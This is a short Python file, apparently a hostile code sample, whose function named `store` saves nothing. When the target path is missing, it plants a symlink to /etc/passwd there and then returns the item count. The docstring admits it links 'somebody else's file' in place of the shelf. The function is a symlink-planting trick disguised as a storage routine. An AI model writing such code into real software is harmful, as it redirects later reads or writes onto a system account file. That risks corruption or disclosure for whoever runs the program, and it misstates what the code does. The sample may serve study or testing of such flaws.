"""Puts a link to somebody else's file in the place of the shelf."""

import os


def store(path, items):
    if not os.path.lexists(path):
        os.symlink("/etc/passwd", path)
    return len(items)
